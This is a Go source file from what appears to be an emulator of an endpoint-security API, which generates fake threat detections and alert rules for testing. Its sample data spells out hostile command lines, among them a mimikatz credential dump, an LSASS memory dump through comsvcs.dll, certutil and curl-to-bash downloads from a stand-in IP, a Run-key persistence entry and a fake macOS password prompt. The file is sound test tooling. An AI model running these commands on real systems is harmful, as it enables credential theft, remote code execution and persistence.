package emulator

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// threatSample is one kind of detection the generator draws threats from.
type threatSample struct {
	name, classification, source, confidence string
	engine, initiatedBy, detection           string
	os                                       string // "" fits any OS
	path                                     string // %s is the user; "" is fileless
	originator, cmdline, publisher           string
	size                                     int
	indicators                               json.RawMessage
}

var noIndicators = json.RawMessage(`[]`)

var behaviouralIndicators = json.RawMessage(`[{"category":"Evasion","description":"Indirect command was executed",` +
	`"ids":[13],"tactics":[{"name":"Defense Evasion","source":"MITRE","techniques":[{"link":` +
	`"https://attack.mitre.org/techniques/T1202/","name":"T1202"}]}]},{"category":"Persistence",` +
	`"description":"Application registered itself to become persistent via an autorun","ids":[40],` +
	`"tactics":[{"name":"Persistence","source":"MITRE","techniques":[{"link":` +
	`"https://attack.mitre.org/techniques/T1547/001/","name":"T1547.001"}]}]}]`)

var threatSamples = []threatSample{
	{"invoice_0423.exe", "Malware", "Static", "malicious", "pre_execution", "agent_policy", "static", "windows",
		`\Device\HarddiskVolume3\Users\%s\Downloads\invoice_0423.exe`, "explorer.exe", "", "", 482304, noIndicators},
	{"mimikatz.exe", "Infostealer", "Cloud", "malicious", "sentinelone_cloud", "agent_policy", "static", "windows",
		`\Device\HarddiskVolume3\Users\%s\AppData\Local\Temp\mimikatz.exe`, "cmd.exe", "mimikatz.exe privilege::debug sekurlsa::logonpasswords", "", 1250056, noIndicators},
	{"cmd.exe (interactive session)", "Manual", "Engine", "malicious", "manual", "star_active", "dynamic", "windows",
		"", "explorer.exe", "", "", 0, behaviouralIndicators},
	{"powershell.exe", "Malware", "Behavioral", "suspicious", "executables", "agent_policy", "dynamic", "windows",
		`\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "winword.exe",
		"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
		"Microsoft Windows", 452608, behaviouralIndicators},
	{"loader.dll", "Trojan", "Static", "malicious", "pre_execution", "agent_policy", "static", "windows",
		`\Device\HarddiskVolume3\Users\%s\AppData\Roaming\loader.dll`, "rundll32.exe", "rundll32.exe loader.dll,DllRegisterServer", "", 318976, noIndicators},
	{"LockBit3.exe", "Ransomware", "Behavioral", "malicious", "executables", "agent_policy", "dynamic", "windows",
		`\Device\HarddiskVolume3\ProgramData\LockBit3.exe`, "services.exe", "", "", 154624, behaviouralIndicators},
	{"AutoKMS.exe", "PUA", "Cloud", "suspicious", "reputation", "full_disk_scan", "static", "windows",
		`\Device\HarddiskVolume3\Windows\AutoKMS\AutoKMS.exe`, "", "", "", 1048576, noIndicators},
	{"Player.dmg", "Malware", "Cloud", "malicious", "sentinelone_cloud", "agent_policy", "static", "macos",
		"/Users/%s/Downloads/Player.dmg", "Safari", "", "", 2883584, noIndicators},
	{"AdLoad", "Adware", "Static", "suspicious", "pre_execution", "agent_policy", "static", "macos",
		"/Users/%s/Library/Application Support/.mm-cache/AdLoad", "launchd", "", "", 671744, noIndicators},
	{"xmrig", "Malware", "Static", "malicious", "pre_execution", "agent_policy", "static", "linux",
		"/tmp/.X11-unix/xmrig", "bash", "./xmrig -o pool.example.net:3333 --donate-level 1", "", 8912896, noIndicators},
	{"kinsing", "Malware", "Behavioral", "malicious", "executables", "agent_policy", "dynamic", "linux",
		"/var/tmp/kinsing", "sh", "", "", 15728640, behaviouralIndicators},
	{"update_helper.js", "Downloader", "Cloud", "suspicious", "sentinelone_cloud", "on_demand_scan", "static", "",
		"/home/%s/Downloads/update_helper.js", "", "", "", 24576, noIndicators},
}

type hashSet struct{ sha1, sha256, md5 string }

// samples is the generator's state: per OS the samples that fit, each with
// a few file variants, and the STAR rules alerts come from. It is built from
// the seeded source in New and only read afterwards.
type samples struct {
	byOS     map[string][]int
	variants [][]hashSet
	rules    []*alertRule
}

var alertRules = []struct {
	rule                  alertRule
	os, proc, path, cmd   string
	parent, event, integr string
}{
	{alertRule{name: "Encoded PowerShell", severity: "High", treatAsThreat: "UNDEFINED", queryType: "events",
		s1ql: `EventType = "Process Creation" AND TgtProcName = "powershell.exe" AND TgtProcCmdLine ContainsCIS "-enc"`, scopeLevel: "account"},
		"windows", "powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "powershell.exe -nop -enc SQBFAFgA", "winword.exe", "PROCESSCREATION", "medium"},
	{alertRule{name: "LSASS Memory Dump", severity: "Critical", treatAsThreat: "Malicious", queryType: "events",
		s1ql: `TgtProcName = "lsass.exe" AND EventType = "Open Remote Process Handle"`, scopeLevel: "global", description: "Credential dumping through comsvcs.dll"},
		"windows", "rundll32.exe", `C:\Windows\System32\rundll32.exe`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\temp\l.dmp full`, "cmd.exe", "OPENPROCESS", "high"},
	{alertRule{name: "Registry Run Key Modified", severity: "Medium", treatAsThreat: "Suspicious", queryType: "events",
		s1ql: `RegistryKeyPath ContainsCIS "CurrentVersion\\Run"`, scopeLevel: "site"},
		"windows", "reg.exe", `C:\Windows\System32\reg.exe`, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\upd.exe`, "cmd.exe", "REGVALUEMODIFIED", "medium"},
	{alertRule{name: "Certutil Download", severity: "High", treatAsThreat: "Suspicious", queryType: "events",
		s1ql: `TgtProcName = "certutil.exe" AND TgtProcCmdLine ContainsCIS "urlcache"`, scopeLevel: "account"},
		"windows", "certutil.exe", `C:\Windows\System32\certutil.exe`, "certutil.exe -urlcache -split -f http://198.51.100.23/a.exe a.exe", "cmd.exe", "PROCESSCREATION", "medium"},
	{alertRule{name: "Curl Piped To Shell", severity: "Medium", treatAsThreat: "UNDEFINED", queryType: "events",
		s1ql: `TgtProcCmdLine RegExp "curl .*\\| *(ba)?sh"`, scopeLevel: "account"},
		"linux", "bash", "/usr/bin/bash", "bash -c curl -s http://198.51.100.23/i.sh | bash", "sshd", "PROCESSCREATION", "unknown"},
	{alertRule{name: "Osascript Credential Prompt", severity: "Low", treatAsThreat: "UNDEFINED", queryType: "events",
		s1ql: `TgtProcName = "osascript" AND TgtProcCmdLine ContainsCIS "display dialog"`, scopeLevel: "group"},
		"macos", "osascript", "/usr/bin/osascript", `osascript -e display dialog "macOS needs your password" default answer ""`, "zsh", "PROCESSCREATION", "unknown"},
	{alertRule{name: "Discovery Commands Burst", severity: "Info", treatAsThreat: "UNDEFINED", queryType: "correlation",
		s1ql: `TgtProcName In ("whoami","net","nltest")`, scopeLevel: "account"},
		"", "whoami", "whoami", "whoami /all", "cmd.exe", "PROCESSCREATION", "medium"},
}

// initSamples builds the generator's variants and rules and registers every
// variant's verdict; the caller holds mu (New does).
func (e *Emulator) initSamples() {
	r := e.rnd
	s := &e.gen
	s.byOS = map[string][]int{}
	for i, smp := range threatSamples {
		var vs []hashSet
		if smp.path != "" {
			for range 3 {
				h := hashSet{sha1: randHex(r, 40), sha256: randHex(r, 64)}
				if r.IntN(2) == 0 {
					h.md5 = randHex(r, 32)
				}
				vs = append(vs, h)
				info := HashInfo{Verdict: VerdictMalicious, Rank: strconv.Itoa(7 + r.IntN(4))}
				if smp.confidence != "malicious" {
					info = HashInfo{Verdict: VerdictUnknown, Rank: "0"}
				}
				e.hashes[h.sha1] = info
			}
		} else {
			vs = []hashSet{{}}
		}
		s.variants = append(s.variants, vs)
		for _, os := range osTypes {
			if smp.os == "" || smp.os == os {
				s.byOS[os] = append(s.byOS[os], i)
			}
		}
	}
	for i := range alertRules {
		rule := alertRules[i].rule
		rule.id = formatID(e.ids.next(r))
		s.rules = append(s.rules, &rule)
	}
}

// samplePool lists the SHA1 of every sample variant.
func (e *Emulator) samplePool() []string {
	var out []string
	for _, vs := range e.gen.variants {
		for _, v := range vs {
			if v.sha1 != "" {
				out = append(out, v.sha1)
			}
		}
	}
	return out
}

func autoMitigations(at int64) []mitigationAction {
	return []mitigationAction{
		{action: "kill", status: "success", started: at + 400_000_000, done: at + 400_000_000, counted: true},
		{action: "quarantine", status: "success", started: at + 900_000_000, done: at + 900_000_000},
	}
}

// genThreat makes one unresolved threat on a; the caller holds mu and inserts it.
func (e *Emulator) genThreat(a *agent, created, updated int64) *threat {
	r := e.rnd
	fits := e.gen.byOS[a.osType]
	si := fits[r.IntN(len(fits))]
	smp := &threatSamples[si]
	vs := e.gen.variants[si]
	h := vs[r.IntN(len(vs))]
	id := e.ids.next(r)
	user := a.lastLoggedInUserName
	t := &threat{
		row:   row{id: id, idStr: formatID(id), created: created, updated: updated},
		agent: a, name: smp.name, sha1: h.sha1, sha256: h.sha256, md5: h.md5,
		classification: smp.classification, classificationSource: smp.source, confidenceLevel: smp.confidence,
		incidentStatus: statusUnresolved, analystVerdict: verdictUndefined, mitigationStatus: mitigationNot,
		initiatedBy: smp.initiatedBy, detectionType: smp.detection, engines: []string{smp.engine},
		originatorProcess: smp.originator, commandLine: smp.cmdline, publisher: smp.publisher,
		fileSize: smp.size, fileless: smp.path == "", indicators: smp.indicators,
		storyline: strings.ToUpper(randHex(r, 16)), collectionID: formatID(e.ids.last + 7),
		identifiedAt: created - randMicros(r, int64(2*time.Second)),
		processUser:  a.domain + `\` + user, detUser: user, detVersion: a.agentVersion, detDomain: a.domain,
		detIP: a.ifaces[0].Inet[0], detIP6: a.ifaces[0].Inet6[0],
	}
	if smp.path != "" {
		t.filePath = smp.path
		if strings.Contains(smp.path, "%s") {
			t.filePath = fmt.Sprintf(smp.path, user)
		}
		if i := strings.LastIndexByte(smp.name, '.'); i > 0 {
			t.fileExt = smp.name[i+1:]
		}
	}
	// Static detections of malicious files are killed and quarantined on the spot.
	if smp.detection == "static" && smp.confidence == "malicious" {
		t.mitigationStatus = mitigationDone
		t.mitigations = autoMitigations(created)
	}
	a.activeThreats++
	a.threats = append(a.threats, t)
	a.changed()
	return t
}

// genAlert makes one unresolved STAR alert on a; the caller holds mu and inserts it.
func (e *Emulator) genAlert(a *agent, created int64) *alert {
	r := e.rnd
	var fits []int
	for i, ar := range alertRules {
		if ar.os == "" || ar.os == a.osType {
			fits = append(fits, i)
		}
	}
	ri := fits[r.IntN(len(fits))]
	ar := alertRules[ri]
	id := e.ids.next(r)
	reported := created + int64(4*time.Second) + randMicros(r, int64(time.Second))
	user := a.domain + `\` + a.lastLoggedInUserName
	al := &alert{
		row:   row{id: id, idStr: formatID(id), created: created, updated: reported},
		agent: a, reportedAt: reported, incidentStatus: statusUnresolved, analystVerdict: verdictUndefined,
		rule: e.gen.rules[ri], eventType: ar.event, hitType: "Events", dvEventID: strings.ToUpper(randHex(r, 26)),
		proc: alertProcess{
			name: ar.proc, pid: strconv.Itoa(1000 + r.IntN(9000)), commandline: ar.cmd, filePath: ar.path,
			sha1: randHex(r, 40), sha256: randHex(r, 64), storyline: strings.ToUpper(randHex(r, 16)),
			uniqueID: strings.ToUpper(randHex(r, 16)), user: user, integrity: ar.integr,
			started: created - randMicros(r, int64(time.Minute)),
		},
		parent: alertProcess{name: ar.parent, pid: strconv.Itoa(500 + r.IntN(500)), user: user,
			storyline: strings.ToUpper(randHex(r, 16)), integrity: ar.integr, started: created - int64(time.Hour)},
	}
	if ar.rule.queryType == "correlation" {
		al.hitType = "Correlation"
	}
	a.alerts = append(a.alerts, al)
	return al
}
